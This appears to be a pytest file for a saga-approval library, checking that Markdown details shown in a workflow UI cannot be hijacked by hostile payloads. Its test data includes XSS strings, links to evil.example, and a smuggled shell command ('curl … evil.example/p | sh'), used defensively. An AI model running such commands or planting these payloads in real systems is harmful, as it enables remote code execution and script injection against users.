"""The current details a person reads in the Temporal UI, rendered by a real CommonMark
parser (markdown-it, with tables): what they say, and what a hostile payload cannot make
them say."""

from __future__ import annotations

import html as html_lib
import json
import re
import shlex

import pytest
from markdown_it import MarkdownIt

from sagacity.approval._judge import approval_hash, approval_payload
from sagacity.journal._canonical import canonical_text
from sagacity.journal._phases import SagaStatus
from sagacity.text._saga_details import (
    HEADLINES,
    MAX_STEPS,
    md_code,
    md_text,
    saga_details,
    start_details,
    start_summary,
)

PAYLOAD = {"iban": "DE89370400440532013000", "amount": 5000}


def _html(markdown: str) -> str:
    return MarkdownIt("commonmark").enable("table").render(markdown)


def _pending(payload: dict[str, object], **extra: object) -> dict[str, object]:
    return {
        "saga_id": "s-1",
        "step": 3,
        "tool": "send_wire_transfer",
        "payload": payload,
        "canonical_payload": canonical_text(approval_payload("send_wire_transfer", payload)),
        "payload_sha256": approval_hash("send_wire_transfer", payload),
        **extra,
    }


def _code_blocks(html: str) -> list[str]:
    import html as html_lib

    return [html_lib.unescape(b) for b in re.findall(r"<pre><code[^>]*>(.*?)\n</code>", html, re.S)]


def test_every_status_has_a_headline_that_leads_the_details() -> None:
    assert set(HEADLINES) == {s.value for s in SagaStatus}
    for status in SagaStatus:
        html = _html(saga_details(saga_id="s-1", status=status.value, steps=[]))
        assert html.startswith(f"<h2>{status.value}</h2>"), html[:80]
    done = _html(saga_details(saga_id="s-1", status="COMPENSATED", steps=[], failure="boom"))
    assert (
        "FAILED; its executed steps were undone" in done
        and "First failure:</strong> <code>boom</code>" in done
    )
    assert "FAILED" not in _html(saga_details(saga_id="s", status="COMPLETED", steps=[]))


def test_a_waiting_step_shows_its_payload_hash_and_how_to_decide() -> None:
    pending = _pending(PAYLOAD, needs="1 of 2 approvals from finance")
    html = _html(saga_details(saga_id="s-1", status="AWAITING_APPROVAL", steps=[], pending=pending))
    assert "<li><strong>iban</strong>: <code>DE89370400440532013000</code></li>" in html
    assert "<li><strong>amount</strong>: <code>5000</code></li>" in html
    assert f"<code>{pending['payload_sha256']}</code>" in html
    assert "<code>sagacity approve s-1</code>" in html
    assert "1 of 2 approvals from finance" in html
    canonical, signal = _code_blocks(html)
    assert canonical == pending["canonical_payload"]
    decision = json.loads(signal)  # what a person pastes into the UI's Send a Signal
    assert decision == {
        "saga_id": "s-1",
        "step": 3,
        "tool": "send_wire_transfer",
        "payload_sha256": pending["payload_sha256"],
        "approver": "you@example.com",
        "approve": True,
    }


def test_where_only_signed_decisions_count_no_signal_is_offered() -> None:
    pending = _pending(PAYLOAD, signatures_required=True)
    html = _html(saga_details(saga_id="s-1", status="AWAITING_APPROVAL", steps=[], pending=pending))
    assert len(_code_blocks(html)) == 1 and "Send a Signal" not in html
    assert "Only signed decisions count" in html


@pytest.mark.parametrize(
    "hostile",
    [
        "[approve here](http://evil.example/x)",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "# Approved by the CFO\n\n**nothing to check**",
        "| fake | row |",
        "![](http://evil.example/p.png)",
        "`code` *bold* _it_ ~~gone~~",
    ],
)
def test_a_hostile_payload_draws_nothing_into_the_page(hostile: str) -> None:
    pending = _pending({"note": hostile, "amount": 1})
    steps = [{"step": 1, "tool": hostile, "args": {"x": hostile}, "status": "EXECUTED"}]
    details = saga_details(
        saga_id=hostile, status="AWAITING_APPROVAL", steps=steps, pending=pending, failure=hostile
    )
    html = _html(details)
    for tag in ("<a ", "<img", "<script", "<h1", "<strong>nothing", "<em>", "<s>"):
        assert tag not in html, tag
    assert html.count("<li>") == 2 + 1  # two fields, one step
    canonical = _code_blocks(html)[0]
    assert json.loads(canonical)["args"]["note"] == hostile  # the exact text, shown whole


def test_invisible_and_bidi_characters_are_shown_as_escapes() -> None:
    sneaky = "DE89\u202e0003\u200b1"
    pending = _pending({"iban": sneaky})
    html = _html(saga_details(saga_id="s-1", status="AWAITING_APPROVAL", steps=[], pending=pending))
    assert "\u202e" not in html and "\u200b" not in html
    assert "<li><strong>iban</strong>: <code>DE89\\u202e0003\\u200b1</code></li>" in html
    canonical = _code_blocks(html)[0]
    assert json.loads(canonical)["args"]["iban"] == sneaky  # the escape is the same JSON
    assert md_text("a\U000e0001b") == "a\\\\udb40\\udc01b"


def test_commands_stay_literal_whatever_the_saga_id() -> None:
    assert md_code("a`b") == "`` a`b ``"
    html = _html(saga_details(saga_id="x`y *z*", status="NEEDS_HUMAN", steps=[], dirty=[{}]))
    assert "<code>sagacity resolve 'x`y *z*' STEP --happened</code>" in html
    # A saga id is one shell word in every command a person may paste.
    injected = "ok; curl -s http://evil.example/p | sh #"
    pending = _pending(PAYLOAD)
    for details in (
        saga_details(saga_id=injected, status="AWAITING_APPROVAL", steps=[], pending=pending),
        saga_details(saga_id=injected, status="NEEDS_HUMAN", steps=[], dirty=[{}]),
    ):
        shown = re.findall(r"<code>(sagacity [^<]*)</code>", _html(details))
        commands = [c for c in shown if c != "sagacity dirty"]
        assert commands and all(
            shlex.split(html_lib.unescape(c))[2] == injected for c in commands
        ), commands


def test_long_values_are_cut_visibly_and_old_steps_counted() -> None:
    pending = _pending({"memo": "m" * 5_000})
    steps = [{"step": n, "tool": "t", "status": "EXECUTED"} for n in range(1, 81)]
    details = saga_details(
        saga_id="s",
        status="AWAITING_APPROVAL",
        steps=steps[-MAX_STEPS:],
        step_count=len(steps),
        pending=pending,
    )
    html = _html(details)
    assert "m" * 119 + "…" in html and "m" * 121 not in html.split("<pre>")[0]
    assert f"{80 - MAX_STEPS} earlier steps" in html
    assert html.count("<li>") == 1 + 1 + MAX_STEPS  # a field, "earlier", the steps


def test_the_start_summary_says_what_the_saga_was_asked_to_do() -> None:
    assert _html(start_summary(["reserve_inventory", "charge_card"], None)) == (
        "<p>saga: plan of 2 step(s): <code>reserve_inventory → charge_card</code></p>\n"
    )
    assert start_summary(None, "order  two\nwidgets") == "saga: goal: `order two widgets`"
    long = start_summary(["t\u202e"] * 100, None)
    assert len(long) < 260 and long.endswith("…`") and "\u202e" not in long
    hostile = "[Approve](http://evil.example/) <b>now</b> http://evil.example/x **b**"
    for summary in (start_summary(None, hostile), start_summary([hostile], None)):
        html = _html(summary)
        assert "<a " not in html and "<b>" not in html and "<strong>" not in html, html


def test_the_start_details_list_the_plan_escaped() -> None:
    html = _html(start_details([("charge_card", {"amount": 100}), ("x*y*", {"a": "[l](u)"})], None))
    assert "<li><code>charge_card(amount=100)</code></li>" in html
    assert "<li><code>x*y*(a='[l](u)')</code></li>" in html
    assert "<em>" not in html and "<a " not in html
    assert (
        _html(start_details(None, "pay **now**"))
        == "<p><strong>Goal:</strong> <code>pay **now**</code></p>\n"
    )
